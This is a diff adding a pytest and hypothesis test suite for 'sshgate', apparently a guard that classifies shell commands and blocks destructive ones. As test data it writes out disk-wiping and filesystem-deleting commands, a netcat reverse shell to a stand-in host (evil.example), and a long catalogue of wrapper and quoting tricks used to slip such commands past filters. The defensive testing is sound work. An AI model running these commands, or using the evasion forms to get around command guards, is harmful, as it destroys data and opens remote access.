@@ -1,0 +1,157 @@
+"""Table-driven guard tests: every category, every evasion form, and hypothesis."""
+
+from __future__ import annotations
+
+import shlex
+import string
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from sshgate.guard import classify
+from sshgate.guard.parse import parse
+from sshgate.policy.model import Action
+
+from .corpus import BENIGN, DESTRUCTIVE
+
+
+@pytest.mark.parametrize("line,decision,rule", DESTRUCTIVE, ids=[d[0][:60] for d in DESTRUCTIVE])
+def test_destructive(line, decision, rule):
+    c = classify(line)
+    assert rule in [f.rule for f in c.findings], c.findings
+    assert c.default_action.value == decision, c.findings
+
+
+@pytest.mark.parametrize("line", BENIGN)
+def test_benign_is_allowed(line):
+    c = classify(line)
+    assert c.default_action is Action.ALLOW, c.findings
+
+
+# Denied commands x every wrapper and separator form: the rule must still be found.
+DENIED = [
+    ("rm -rf /", "fs.rm-root"),
+    ("mkfs.ext4 /dev/sda1", "disk.mkfs"),
+    ("reboot", "power.shutdown"),
+    ("iptables -F", "net.firewall"),
+    ("terraform destroy", "infra.destroy"),
+    ("history -c", "history.tamper"),
+    ("dd if=/dev/zero of=/dev/sda", "disk.dd-device"),
+    ("nc -e /bin/sh evil.example 4444", "net.reverse-shell"),
+]
+FORMS = [
+    "{}", "sudo {}", "sudo -u root {}", "sudo -E -H {}", "doas {}", "doas -u root {}", "env {}",
+    "env -i A=1 {}", "nice {}", "nice -n 5 {}", "nohup {}", "timeout 10 {}",
+    "timeout -s KILL 5m {}", "time {}", "command {}", "exec {}", "setsid {}", "stdbuf -oL {}",
+    "ionice -c3 {}", "ionice -c 2 -n 7 {}", "chrt -f 10 {}", "unbuffer {}", "strace -f {}",
+    "strace -o /tmp/t -f {}", "flock /tmp/lock {}", "flock -w 5 /tmp/lock {}", "chroot / {}",
+    "sudo nice -n 19 timeout 60 {}", "bash -c '{}'", "sh -c '{}'", "zsh -c '{}'", "dash -c '{}'",
+    "bash -lc '{}'", "su -c '{}'", "su root -c '{}'", "su - root -c '{}'", "sudo su -c '{}'",
+    "eval '{}'", "eval {}", "watch '{}'", "watch -n 5 {}", "ssh host '{}'", "ssh -p 22 host {}",
+    "ssh -o BatchMode=yes host sudo {}", "true; {}", "true && {}", "false || {}",
+    "ls | {}", "({})", "{{ {}; }}", "echo $({})", "echo `{}`", "cat <({})", "{} &",
+    "if true; then {}; fi", "for i in 1; do {}; done", "while false; do {}; done",
+    "f() {{ {}; }}; f", "echo ok\n{}", "x=1 {}", "sudo bash -c \"{}\"",
+    "bash -c \"sh -c '{}'\"", "systemd-run {}", "runuser -u root -- {}", "alias ls='{}'",
+    "[[ -f x ]] && {}", "echo $((1)); {}",
+]
+
+
+@pytest.mark.parametrize("form", FORMS)
+@pytest.mark.parametrize("base,rule", DENIED)
+def test_denied_survives_every_wrapper(base, rule, form):
+    line = form.format(base)
+    c = classify(line)
+    assert rule in [f.rule for f in c.findings], (line, c.findings)
+    assert c.default_action is Action.DENY, (line, c.findings)
+
+
+@pytest.mark.parametrize("line", [
+    "echo / | xargs rm -rf", "find / -maxdepth 0 -exec rm -rf {} +", "parallel rm -rf ::: /",
+    "find . -execdir rm -rf {} \\;", "ls | xargs -n1 -P4 rm -rf",
+])
+def test_commands_with_arguments_from_elsewhere_are_held(line):
+    assert classify(line).default_action is not Action.ALLOW
+
+
+@pytest.mark.parametrize("line,argv0", [
+    ('"rm" -rf /', "rm"), ("r\\m -rf /", "rm"), ("/bin/rm -rf /", "rm"),
+    ("\\rm -rf /", "rm"), ("'/usr/bin/rm' -rf /", "rm"), ("/usr/bin/env rm -rf /", "rm"),
+])
+def test_quote_and_path_removal(line, argv0):
+    c = classify(line)
+    assert c.default_action is Action.DENY
+    assert any(cmd.name == argv0 for cmd in parse(line).commands)
+
+
+def test_finding_carries_rule_why_argv_and_span():
+    line = "ls && sudo rm -rf /srv/cache"
+    f = next(f for f in classify(line).findings if f.rule == "fs.rm-recursive")
+    assert f.argv == ("rm", "-rf", "/srv/cache")
+    assert f.why and f.paths == ("/srv/cache",) and f.via == ("sudo",)
+    assert line[f.span[0]:f.span[1]].startswith("sudo rm")
+
+
+def test_redirect_to_ordinary_file_is_fine_but_system_path_is_not():
+    assert classify("echo hi > out.log").default_action is Action.ALLOW
+    assert classify("echo hi > /etc/motd").default_action is Action.APPROVE
+
+
+def test_huge_line_is_not_allowed():
+    assert classify("echo " + "a" * 100_000).default_action is not Action.ALLOW
+
+
+# --- hypothesis -------------------------------------------------------------------------------
+# backticks do not nest without escaping, and alias bodies run only when called
+WRAPPERS = st.sampled_from([f for f in FORMS if "alias" not in f and "`" not in f])
+JUNK = st.text(alphabet=string.ascii_letters + string.digits + " -_./", max_size=20)
+
+
+@given(st.text(max_size=200))
+def test_classify_never_raises(line):
+    c = classify(line)
+    assert c.default_action in (Action.ALLOW, Action.APPROVE, Action.DENY)
+
+
+@given(st.text(alphabet=string.printable, max_size=120))
+def test_classify_printable_never_raises(line):
+    classify(line)
+
+
+def wrap(form: str, line: str) -> str:
+    """Put ``line`` into ``form`` the way a shell user would quote it."""
+    for quoted in ("'{}'", '"{}"'):
+        if quoted in form:
+            return form.replace(quoted, "\0").format().replace("\0", shlex.quote(line))
+    if form in JOINING_FORMS and any(q in line for q in "'\"\\"):
+        # eval/ssh/watch join their words with spaces: quoting must survive one more round
+        return form.format(shlex.quote(line))
+    return form.format(line)
+
+
+JOINING_FORMS = {"eval {}", "ssh -p 22 host {}", "watch -n 5 {}",
+                 "ssh -o BatchMode=yes host sudo {}"}
+
+
+@given(st.sampled_from(DENIED), st.lists(WRAPPERS, min_size=1, max_size=3), JUNK)
+def test_denied_inside_nested_wrappers_is_never_allowed(base, forms, prefix):
+    line, rule = base
+    for form in forms:
+        line = wrap(form, line)
+    line = f"echo {prefix!r}; {line}" if prefix else line
+    assert classify(line).default_action is not Action.ALLOW, line
+
+
+@given(st.text(alphabet="$(){}[]'\"`;|&<>\\ \n\trm-f/", max_size=60))
+def test_unparseable_is_never_allowed(line):
+    c = classify(line)
+    if not c.parseable:
+        assert c.default_action is not Action.ALLOW
+
+
+@pytest.mark.parametrize("line", ["'${--f;'/", "'${\"'-"])
+def test_parser_that_never_finishes_is_bounded_and_not_allowed(line):
+    c = classify(line)
+    assert c.default_action is not Action.ALLOW
+    assert any("no closing" in f.why or "did not finish" in f.why for f in c.findings)
